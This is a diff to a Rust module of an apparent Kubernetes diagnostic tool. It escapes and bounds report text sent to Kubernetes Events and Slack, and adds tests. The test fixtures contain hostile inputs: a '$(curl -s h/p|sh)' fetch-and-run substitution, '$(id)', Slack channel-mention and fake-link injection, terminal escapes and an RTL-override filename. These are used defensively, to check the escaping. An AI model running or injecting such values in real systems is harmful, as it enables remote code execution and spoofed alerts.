@@ -1,6 +1,9 @@
 //! Where `serve`'s reports go besides the store: a `KubeDoctorDiagnosis` Warning Event on each
 //! failing client pod the top verdict names (serve's only write to the cluster), and an
-//! optional Slack-compatible chat message.
+//! optional Slack-compatible chat message. Both quote the report, whose summary and remediation
+//! carry cluster text (names, log excerpts): they are escaped to one line
+//! ([`kube_doctor_core::escape::one_line`]), bounded in length, and the chat text has Slack's
+//! control characters (`&`, `<`, `>`) escaped, so no mention, link or markup comes from the cluster.
 
 use std::time::Duration;
 
@@ -9,7 +12,8 @@ use k8s_openapi::api::core::v1::{Event, EventSource, ObjectReference};
 use k8s_openapi::apimachinery::pkg::apis::meta::v1::{MicroTime, ObjectMeta, Time};
 use kube::Api;
 use kube::api::PostParams;
-use kube_doctor_core::report::Report;
+use kube_doctor_core::escape::one_line;
+use kube_doctor_core::report::{Report, Verdict};
 
 use crate::source::kube::{Kube, Perm, StepCtx};
 
@@ -37,15 +41,7 @@ pub async fn announce(kube: &Kube, r: &Report) -> Result<(), String> {
             continue;
         }
         let now = Timestamp::now();
-        let message: String = format!(
-            "{} ({:.0}%): {}",
-            top.cause,
-            top.confidence * 100.0,
-            top.summary
-        )
-        .chars()
-        .take(1000)
-        .collect();
+        let message = event_message(top);
         let event = Event {
             metadata: ObjectMeta {
                 generate_name: Some(format!("{name}.kube-doctor.")),
@@ -94,6 +90,64 @@ pub async fn announce(kube: &Kube, r: &Report) -> Result<(), String> {
     Ok(())
 }
 
+/// Longest Event message, in bytes (the API server keeps Event messages short; 1 KiB is what
+/// `events.k8s.io/v1` allows for its `note`).
+pub const EVENT_MESSAGE_MAX_BYTES: usize = 1024;
+
+/// Longest chat message, in bytes.
+pub const CHAT_TEXT_MAX_BYTES: usize = 3000;
+
+/// The Event's message: cause, confidence and summary on one line, escaped, at most
+/// [`EVENT_MESSAGE_MAX_BYTES`].
+pub fn event_message(top: &Verdict) -> String {
+    let line = format!(
+        "{} ({:.0}%): {}",
+        top.cause,
+        top.confidence * 100.0,
+        one_line(&top.summary, 900)
+    );
+    cut_bytes(line, EVENT_MESSAGE_MAX_BYTES)
+}
+
+/// The chat message: cause, confidence, summary and the first remediation step's first line,
+/// each escaped to one line and for Slack's mrkdwn, at most [`CHAT_TEXT_MAX_BYTES`].
+pub fn chat_text(top: &Verdict) -> String {
+    let first_step = top
+        .remediation
+        .first()
+        .map(|s| s.lines().next().unwrap_or_default())
+        .unwrap_or_default();
+    let text = format!(
+        "*KubeClientErrors* — {} ({:.0}%): {}\nDo: {}",
+        top.cause,
+        top.confidence * 100.0,
+        slack_escape(&one_line(&top.summary, 1500)),
+        slack_escape(&one_line(first_step, 500)),
+    );
+    cut_bytes(text, CHAT_TEXT_MAX_BYTES)
+}
+
+/// Slack's three control characters, as its message formatting asks.
+fn slack_escape(s: &str) -> String {
+    s.replace('&', "&amp;")
+        .replace('<', "&lt;")
+        .replace('>', "&gt;")
+}
+
+/// `s` cut to at most `max` bytes at a character boundary, with `…` when cut.
+fn cut_bytes(mut s: String, max: usize) -> String {
+    if s.len() <= max {
+        return s;
+    }
+    let mut end = max - '…'.len_utf8();
+    while !s.is_char_boundary(end) {
+        end -= 1;
+    }
+    s.truncate(end);
+    s.push('…');
+    s
+}
+
 /// Posts a Slack-compatible message (`{"text": ...}`) for each report with a problem.
 pub struct Notifier {
     http: reqwest::Client,
@@ -123,16 +177,7 @@ impl Notifier {
         let Some(top) = r.top().filter(|_| r.problem_found()) else {
             return;
         };
-        let text = format!(
-            "*KubeClientErrors* — {} ({:.0}%): {}\nDo: {}",
-            top.cause,
-            top.confidence * 100.0,
-            top.summary,
-            top.remediation
-                .first()
-                .map(|s| s.lines().next().unwrap_or_default())
-                .unwrap_or_default()
-        );
+        let text = chat_text(top);
         if let Err(e) = self
             .http
             .post(&self.url)
@@ -142,5 +187,82 @@ impl Notifier {
         {
             tracing::warn!(error = %kube_doctor_core::escape::error_chain(&e.without_url(), 1000), "could not post the notification");
         }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use kube_doctor_core::report::Cause;
+
+    fn verdict(summary: &str, step: &str) -> Verdict {
+        Verdict {
+            cause: Cause::Authorization,
+            confidence: 0.93,
+            summary: summary.to_string(),
+            evidence: Vec::new(),
+            remediation: vec![step.to_string()],
+            clients: vec!["c".into()],
+        }
+    }
+
+    #[test]
+    fn cluster_text_reaches_the_event_and_the_chat_escaped_and_bounded() {
+        let hostile =
+            "user x$(curl -s h/p|sh)\n\u{1b}[2J<!channel> <https://evil|click> & \u{202e}gnp.exe";
+        let v = verdict(
+            &hostile.repeat(200),
+            "kubectl auth can-i --as x$(id) <@U123>\u{1b}[31m\u{85}\nsecond line",
+        );
+        let ev = event_message(&v);
+        assert!(ev.len() <= EVENT_MESSAGE_MAX_BYTES, "{}", ev.len());
+        assert!(ev.starts_with("authorization (93%): user x$(curl"), "{ev}");
+        assert!(!ev.chars().any(|c| c.is_control()), "{ev}");
+        assert!(
+            ev.contains("\\n\\u{1b}[2J") && ev.contains("\\u{202e}"),
+            "{ev}"
+        );
+        assert!(ev.ends_with('…'));
+
+        let chat = chat_text(&v);
+        assert!(chat.len() <= CHAT_TEXT_MAX_BYTES, "{}", chat.len());
+        // One line break, the message's own, before "Do:".
+        assert_eq!(chat.matches('\n').count(), 1, "{chat}");
+        let (_, todo) = chat.split_once('\n').unwrap();
+        // The first line of the first step only, escaped.
+        assert_eq!(
+            todo,
+            "Do: kubectl auth can-i --as x$(id) &lt;@U123&gt;\\u{1b}[31m\\u{85}"
+        );
+        assert!(
+            !chat.contains("<!channel>") && !chat.contains("<https://"),
+            "{chat}"
+        );
+        assert!(
+            chat.contains("&lt;!channel&gt;") && chat.contains(" &amp; "),
+            "{chat}"
+        );
+        assert!(
+            !chat.contains('\u{1b}') && !chat.contains('\u{202e}'),
+            "{chat}"
+        );
+    }
+
+    #[test]
+    fn short_text_is_kept_whole_and_cuts_fall_on_character_boundaries() {
+        let v = verdict(
+            "RBAC denies list pods to system:serviceaccount:demo:app",
+            "Grant it.",
+        );
+        assert_eq!(
+            event_message(&v),
+            "authorization (93%): RBAC denies list pods to system:serviceaccount:demo:app"
+        );
+        assert_eq!(
+            chat_text(&v),
+            "*KubeClientErrors* — authorization (93%): RBAC denies list pods to system:serviceaccount:demo:app\nDo: Grant it."
+        );
+        let cut = cut_bytes("é".repeat(1000), 101);
+        assert!(cut.len() <= 101 && cut.ends_with('…'), "{}", cut.len());
     }
 }
